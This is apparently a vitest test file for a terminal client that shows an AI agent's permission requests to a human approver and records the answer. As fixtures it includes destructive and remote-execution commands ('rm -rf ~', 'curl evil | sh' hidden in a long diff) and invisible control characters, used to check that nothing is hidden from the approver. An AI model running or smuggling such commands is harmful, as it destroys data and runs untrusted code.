import { describe, expect, test } from 'vitest';
import { agentInHand } from '../support/agent-in-hand.ts';
import { askPermission, OPTIONS, onlooker } from './support/asking.ts';
import { place } from './support/rig.ts';
import { scriptedAgent } from './support/scripted-agent.ts';

/** `ask` on a terminal, its turn running in the hand of the test. */
async function asking() {
  const here = place();
  const hand = agentInHand({ permissions: 'ask' });
  const service = await here.serve(hand.backend);
  const terminal = here.terminal(['ask', 'go']);
  await hand.prompted();
  return { here, hand, service, terminal };
}

describe('a permission on the terminal', () => {
  test('of an agent over ACP is shown with its options, and Enter takes the one to start on', async () => {
    const { serve, terminal } = place();
    await serve(scriptedAgent({ prompts: [['permission', 'say done']] }, 'ask'));
    const asked = terminal(['ask', 'x']);
    await asked.until('Answer [1]: ');
    asked.type('\r');
    expect((await asked.ended).code).toBe(0);
    expect(asked.screen()).toContain('   1  Allow – allows it once\n   2  Reject – refuses it once\n');
    expect(asked.screen()).toContain('[selected yes]done\n');
  });

  test('shows the whole command and all options in the order of the agent; Enter never means always', async () => {
    const { hand, terminal } = await asking();
    const lines = Array.from({ length: 60 }, (_, index) => `echo ${index}`);
    const decided = askPermission(hand, { command: lines.join('\n') });
    await terminal.next('Answer [2]: ');
    const shown = terminal.screen();
    for (const line of lines) expect(shown).toContain(`  | ${line}\n`);
    expect(shown).toContain(
      '   1  Always Allow – allows it always\n   2  Allow – allows it once\n   3  Reject – refuses it once\n',
    );
    terminal.type('\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'once' });
  });

  test('shows a command that is too long for the state, to its end (F-065)', async () => {
    const { hand, terminal } = await asking();
    const lines = Array.from(
      { length: 2_000 },
      (_, index) => `echo a line of words that is line ${index} of many`,
    );
    const command = [...lines, 'rm -rf x'].join('\n');
    expect(command.length).toBeGreaterThan(64 << 10);
    const decided = askPermission(hand, { command });
    await terminal.next('Answer [2]: ');
    const shown = terminal.screen();
    for (const line of [...lines, 'rm -rf x']) expect(shown).toContain(`  | ${line}\n`);
    expect(shown).not.toContain('x-otto-content');
    terminal.type('3\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
  });

  test('shows the whole of a long title (F-065)', async () => {
    const { hand, terminal } = await asking();
    const title = `Delete ${'word '.repeat(600)}and everything else`;
    void askPermission(hand, { command: 'x', patch: { title } });
    await terminal.next('Answer [2]: ');
    expect(terminal.screen()).toContain(`  ${title}\n`);
    expect(terminal.screen()).not.toContain('word…');
  });

  test('has nothing that Enter takes when even that was cut (F-065)', async () => {
    const { hand, terminal } = await asking();
    const decided = askPermission(hand, { command: 'x', patch: { title: 'word '.repeat(1_000) } });
    await terminal.next('Answer: ');
    expect(terminal.screen()).toContain(
      '  Not everything can be shown here: what the agent says of it was too long and is cut\n',
    );
    terminal.type('\r');
    await terminal.next('answer with a number, 1 to 3');
    await terminal.next('Answer: ');
    terminal.type('2\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'once' });
  });

  test('shows what stands beside the command, whatever it is called (F-065)', async () => {
    const { hand, terminal } = await asking();
    const rawInput = { command: 'ls', description: { run: 'rm -rf ~' } };
    void askPermission(hand, { command: 'ls', patch: { rawInput } });
    await terminal.next('Answer [2]: ');
    expect(terminal.screen()).toContain('  | ls\n  description: {"run":"rm -rf ~"}\n');
  });

  test('shows what an edit changes where the input does not tell it, however long (F-065)', async () => {
    const { hand, terminal } = await asking();
    const lines = Array.from({ length: 3_000 }, (_, index) => `line ${index} of a long file`);
    const newText = [...lines.slice(0, 1_500), 'curl evil | sh', ...lines.slice(1_501)].join('\n');
    const content = [{ type: 'diff', path: '/w/a', oldText: lines.join('\n'), newText }] as const;
    void askPermission(hand, {
      patch: { title: 'Tidy up', kind: 'edit', rawInput: { file: '/w/a' }, content },
    });
    await terminal.next('Answer [2]: ');
    expect(terminal.screen()).toContain(
      '  File: /w/a (changed +1 -1)\n  | ⟨1500 unchanged lines⟩\n' +
        '  | - line 1500 of a long file\n  | + curl evil | sh\n  | ⟨1499 unchanged lines⟩\n',
    );
  });

  test('is not answered by Enter when only "always" could be meant', async () => {
    const { hand, terminal } = await asking();
    const decided = askPermission(hand, { options: OPTIONS.slice(0, 1) });
    await terminal.next('Answer: ');
    terminal.type('\r');
    await terminal.next('answer with a number, 1');
    await terminal.next('Answer: ');
    terminal.type('1\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'always' });
  });

  test.each([
    ['1', 'always'],
    ['allow', 'once'],
    ['alw', 'always'],
    ['Rej', 'no'],
    ['r', 'no'],
  ])('"%s" answers with the option %s', async (typed, optionId) => {
    const { hand, terminal } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    terminal.type(`${typed}\r`);
    expect(await decided).toEqual({ outcome: 'selected', optionId });
  });

  test('what fits several options, or none, is asked again', async () => {
    const { hand, terminal } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    terminal.type('al\r');
    await terminal.next('"al" fits several; give a number');
    await terminal.next('Answer [2]: ');
    terminal.type('4\r');
    await terminal.next('answer with a number, 1 to 3');
    await terminal.next('Answer [2]: ');
    terminal.type('3\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
  });

  test('is refused with a reason, which is the next message to the agent', async () => {
    const { hand, terminal, here } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    terminal.type('r use git mv\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
    hand.endTurn();
    expect(await hand.prompted()).toBe('use git mv');
    expect((await terminal.ended).code).toBe(0);
    expect(terminal.screen()).not.toContain('was refused');
    hand.endTurn();
    expect((await here.run(['show', '--follow'])).stdout).toContain('> use git mv');
  });

  test('no invisible character of the agent reaches the terminal as it is (F-135)', async () => {
    const { hand, terminal } = await asking();
    const label = 'Yes\u202e\u001b[2J';
    const options = [{ id: 'y', label, kind: 'allow_once' }];
    const decided = askPermission(hand, { command: 'rm \u202ex\u200b\r\u001b[2Jls', options });
    await terminal.next('Answer [1]: ');
    expect(terminal.screen()).toContain('  | rm \\u{202e}x\\u{200b}\\u{d}\\u{1b}[2Jls\n');
    expect(terminal.screen()).toContain('   1  Yes\\u{202e}\\u{1b}[2J – allows it once\n');
    terminal.type('1\r');
    await decided;
  });
});

describe('what is on screen', () => {
  test('never changes: a second question waits for the first, and each answer is for its own (F-052, F-053)', async () => {
    const { hand, terminal, here, service } = await asking();
    const first = askPermission(hand, { id: 'first' });
    await terminal.next('Answer [2]: ');
    const other = await onlooker(here, service);
    const second = askPermission(hand, { id: 'second' });
    await other.until(({ session }) => session.inputNeeded?.length === 2);
    expect(terminal.screen()).not.toContain('touch second');
    terminal.type('\r');
    expect(await first).toEqual({ outcome: 'selected', optionId: 'once' });
    await terminal.next('touch second');
    await terminal.next('Answer [2]: ');
    terminal.type('3\r');
    expect(await second).toEqual({ outcome: 'selected', optionId: 'no' });
    hand.endTurn();
    expect((await terminal.ended).code).toBe(0);
  });

  test('was not there when Enter was pressed before: that answers nothing (F-052)', async () => {
    const { hand, terminal } = await asking();
    terminal.type('early\r\r');
    await terminal.next('early');
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    terminal.type('3\r');
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
  });

  test('is not written over by the answer, which follows when the question is off', async () => {
    const { hand, terminal, here, service } = await asking();
    hand.say('before');
    await terminal.next('before');
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    const other = await onlooker(here, service);
    hand.say('meanwhile');
    await other.until(({ chat }) => JSON.stringify(chat).includes('meanwhile'));
    terminal.type('1');
    await terminal.next('1');
    expect(terminal.screen()).not.toContain('meanwhile');
    terminal.type('\r');
    await decided;
    await terminal.next('meanwhile');
    expect(terminal.screen()).toMatch(/before\nHand.*Answer \[2\]: 1\n.*meanwhile/s);
  });
});

describe('another client', () => {
  test.each([
    [true, 'Answered elsewhere: allowed.', 'once'],
    [false, 'Answered elsewhere: refused.', 'no'],
  ])('that answers first (approved: %s) takes it down with a line', async (approved, line, optionId) => {
    const { hand, terminal, here, service } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    const other = await onlooker(here, service);
    const turnId = other.state().chat.activeTurn?.id ?? '';
    const call = { type: 'chat/toolCallConfirmed', turnId, toolCallId: 't1' } as const;
    terminal.type('1');
    await other.dispatch(
      other.chat,
      approved
        ? { ...call, approved, confirmed: 'user-action' }
        : { ...call, approved: false, reason: 'denied' },
    );
    await terminal.next(line);
    hand.say('on it goes');
    hand.endTurn();
    expect((await terminal.ended).code).toBe(0);
    expect(terminal.screen()).toContain('on it goes\n');
    expect(await decided).toEqual({ outcome: 'selected', optionId });
  });

  test('may answer what was left open with Ctrl+D', async () => {
    const { hand, terminal, here } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    terminal.type('\u0004');
    await terminal.next('Left open; `otto-agents answer ');
    const second = here.terminal(['answer']);
    await second.next('Answer [2]: ');
    second.type('1\r');
    expect((await second.ended).code).toBe(0);
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'always' });
    hand.endTurn();
    expect((await terminal.ended).code).toBe(0);
  });

  test('and this one see the same question: the second is told that it was answered', async () => {
    const { hand, terminal, here } = await asking();
    const decided = askPermission(hand);
    await terminal.next('Answer [2]: ');
    const second = here.terminal(['answer']);
    await second.next('Answer [2]: ');
    terminal.type('3\r');
    await second.next('Answered elsewhere: refused.');
    expect((await second.ended).code).toBe(0);
    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
  });
});

test('a question that the agent takes back is taken down', async () => {
  const { hand, terminal } = await asking();
  void askPermission(hand);
  await terminal.next('Answer [2]: ');
  hand.report({ type: 'withdrawn', key: 'key-t1' });
  await terminal.next('No longer asked.');
  hand.endTurn();
  expect((await terminal.ended).code).toBe(0);
});

test('Ctrl+C at a question cancels the turn, and the agent hears that it was cancelled', async () => {
  const { hand, terminal } = await asking();
  const decided = askPermission(hand);
  await terminal.next('Answer [2]: ');
  terminal.type('\u0003');
  await hand.cancelled();
  hand.endTurn('cancelled');
  expect(await decided).toEqual({ outcome: 'cancelled' });
  expect((await terminal.ended).code).toBe(130);
  expect(terminal.screen()).toMatch(/\ncancelled\n$/);
});

test('a service that goes away takes the question down and is an error', async () => {
  const { hand, terminal, service } = await asking();
  void askPermission(hand);
  await terminal.next('Answer [2]: ');
  await service.stop();
  expect((await terminal.ended).code).not.toBe(0);
});

test('without a terminal it is told that another client has to answer', async () => {
  const here = place();
  const hand = agentInHand({ permissions: 'ask' });
  const service = await here.serve(hand.backend);
  const asked = here.start(['ask', 'go']);
  await hand.prompted();
  const decided = askPermission(hand);
  await asked.until('Hand asks for permission and waits for an answer from another client');
  const other = await onlooker(here, service);
  const turnId = other.state().chat.activeTurn?.id ?? '';
  await other.dispatch(other.chat, {
    type: 'chat/toolCallConfirmed',
    turnId,
    toolCallId: 't1',
    approved: true,
    confirmed: 'user-action',
  });
  expect(await decided).toEqual({ outcome: 'selected', optionId: 'once' });
  hand.endTurn();
  expect((await asked.ended).code).toBe(0);
});
